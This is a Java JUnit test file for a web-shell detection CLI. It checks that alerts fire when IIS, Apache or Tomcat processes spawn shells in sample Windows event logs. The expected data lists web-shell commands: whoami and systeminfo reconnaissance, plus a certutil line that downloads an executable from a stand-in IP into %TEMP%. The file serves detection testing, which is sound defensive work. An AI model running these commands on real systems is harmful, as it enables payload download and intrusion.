package dev.webshell.detector.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

/**
 * The shipped Sysmon, Winlogbeat, ECS and Windows Security samples (one web-shell story written by
 * {@code generate --seed 9} in each shape), scanned through the CLI with format detection.
 */
class WindowsSamplesScanTest {
  private static final List<String> SAMPLES =
      List.of("sysmon.jsonl", "winlogbeat.jsonl", "ecs.jsonl", "security-4688.jsonl");
  private static final List<String> WEB_SHELL_LINES =
      List.of(
          "cmd.exe /c whoami",
          "cmd.exe /c \"cd /d C:\\inetpub\\wwwroot && ipconfig /all\"",
          "cmd.exe /c certutil -urlcache -split -f http://203.0.113.7/t.txt %TEMP%\\t.exe",
          // the web server's grandchildren (powershell under cmd under the web server): matched
          // through the process tree, which gives them their grandparent
          "powershell.exe -nop -c whoami /all",
          "powershell.exe -nop -c \"systeminfo | findstr /B Domain\"");

  private static Map<String, JsonNode> lastRevisions(String out) throws IOException {
    ObjectMapper json = new ObjectMapper();
    Map<String, JsonNode> last = new TreeMap<>();
    for (String line : out.lines().toList()) {
      JsonNode a = json.readTree(line);
      last.put(a.get("deviceId").asText(), a);
    }
    return last;
  }

  private static List<String> lines(JsonNode a) {
    List<String> out = new ArrayList<>();
    a.get("commandLines").forEach(n -> out.add(n.asText()));
    return out;
  }

  @Test
  void shouldAlertOnEveryShapeWhereTheWebServerIsTheShellsParentAndAgreeAcrossShapes()
      throws IOException {
    String first = null;
    for (String sample : SAMPLES) {
      ScanCommandTest.Run run = ScanCommandTest.scan("../samples/" + sample);
      assertEquals(0, run.code(), run.err());
      assertTrue(
          run.err().contains("400 lines, 10 alert revisions, 0 unreadable, 48 skipped"), run.err());
      assertTrue(
          run.err().contains("windows/other-provider=1"),
          "the Exchange cmdlet record: " + run.err());
      Map<String, JsonNode> last = lastRevisions(run.out());
      assertEquals(
          List.of("apache01.contoso.local", "exch00.contoso.local"),
          List.copyOf(last.keySet()),
          sample);
      assertEquals(WEB_SHELL_LINES, lines(last.get("exch00.contoso.local")), sample);
      assertEquals(
          "w3wp.exe", last.get("exch00.contoso.local").get("initiatingProcessFileName").asText());
      assertEquals(
          "[\"w3wp.exe\"]",
          last.get("exch00.contoso.local").get("initiatingProcessParentFileNames").toString(),
          "the grandparent of the powershell lines, from the tree; the web server's own creation"
              + " is not in the sample, so its direct children have none");
      assertEquals(WEB_SHELL_LINES, lines(last.get("apache01.contoso.local")), sample);
      assertEquals(
          "httpd.exe",
          last.get("apache01.contoso.local").get("initiatingProcessFileName").asText());
      if (first == null) {
        first = run.out();
      } else {
        assertEquals(first, run.out(), sample + " gives the same revisions as " + SAMPLES.get(0));
      }
    }
  }

  @Test
  void shouldAlsoCatchTomcatOnJavaUnderTheHardenedProfileWhenTheParentsCommandLineIsKnown()
      throws IOException {
    ScanCommandTest.Run sysmon =
        ScanCommandTest.scan("--profile", "hardened", "../samples/sysmon.jsonl");
    assertEquals(0, sysmon.code(), sysmon.err());
    JsonNode java = lastRevisions(sysmon.out()).get("javaweb03.contoso.local");
    assertEquals("java.exe", java.get("initiatingProcessFileName").asText());
    // (the sample's Tomcat intrusion has no grandchildren)
    assertEquals(WEB_SHELL_LINES.subList(0, 3), lines(java));
    // 4688 carries no parent command line, so java.exe is never known to run Catalina
    ScanCommandTest.Run security =
        ScanCommandTest.scan("--profile", "hardened", "../samples/security-4688.jsonl");
    assertTrue(!lastRevisions(security.out()).containsKey("javaweb03.contoso.local"));
  }

  @Test
  void shouldReadOnlyTheChosenFormatAndCountTheRest() throws IOException {
    ScanCommandTest.Run run =
        ScanCommandTest.scan("--input-format", "windows-security", "../samples/sysmon.jsonl");
    assertEquals(0, run.code(), run.err());
    assertEquals("", run.out());
    assertTrue(
        run.err().contains("400 lines, 0 alert revisions, 0 unreadable, 400 skipped"), run.err());
    ScanCommandTest.Run bad =
        ScanCommandTest.scan("--input-format", "avro", "../samples/sysmon.jsonl");
    assertEquals(2, bad.code());
    assertTrue(bad.err().contains("scan reads JSON lines"), bad.err());
    ScanCommandTest.Run auto =
        ScanCommandTest.scan("--input-format", "auto", "../samples/sysmon.jsonl");
    assertEquals(0, auto.code(), auto.err());
    assertTrue(auto.err().contains("10 alert revisions"), auto.err());
    assertTrue(Files.exists(Path.of("../samples/sysmon.jsonl")));
  }
}
